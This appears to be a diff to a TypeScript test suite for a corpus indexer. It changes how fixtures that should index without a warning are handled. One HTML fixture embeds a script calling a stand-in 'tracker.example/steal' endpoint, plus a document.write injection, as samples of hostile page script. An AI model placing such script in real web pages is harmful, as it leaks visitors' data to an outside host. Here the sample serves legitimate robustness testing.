@@ -15,7 +15,7 @@ const MB = 1024 * 1024;
 const HTML_BODY = "Quotebot's HTML fixture says the walrus exchange listed a new stablecoin in March. ".repeat(6);
 
 /** file → the warning it must produce (undefined: indexes silently). */
-const BAD: Record<string, { content: string | Buffer; warning: RegExp }> = {
+const BAD: Record<string, { content: string | Buffer; warning?: RegExp }> = {
   "zero.md": { content: "", warning: /Skipped zero\.md: the file is empty/ },
   "binary.txt": {
     content: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0]),
@@ -45,7 +45,6 @@ const BAD: Record<string, { content: string | Buffer; warning: RegExp }> = {
   },
   "extra/scripted.html": {
     content: `<html><head><title>Walrus exchange</title><script>fetch("https://tracker.example/steal")</script></head><body><article><h1>Walrus exchange</h1><p>${HTML_BODY}</p><script>document.write("INJECTED_BY_SCRIPT")</script></article></body></html>`,
-    warning: /^$/, // indexes without a warning
   },
   "lines.jsonl": {
     content: `${JSON.stringify({ id: "w1", title: "Walrus line", text: "The walrus line article mentions a ledger audit." })}\n{oops\n`,
@@ -75,7 +74,12 @@ afterAll(async () => {
 
 describe("a build over bad corpus files", () => {
   for (const [file, { warning }] of Object.entries(BAD)) {
-    if (warning.source === "^$") continue;
+    if (!warning) {
+      it(`given ${file} then it indexes without a warning`, () => {
+        expect(summary.warnings.filter((w) => w.includes(file))).toEqual([]);
+      });
+      continue;
+    }
     it(`given ${file} then the build warns naming the file and the reason`, () => {
       expect(
         summary.warnings.some((w) => warning.test(w)),
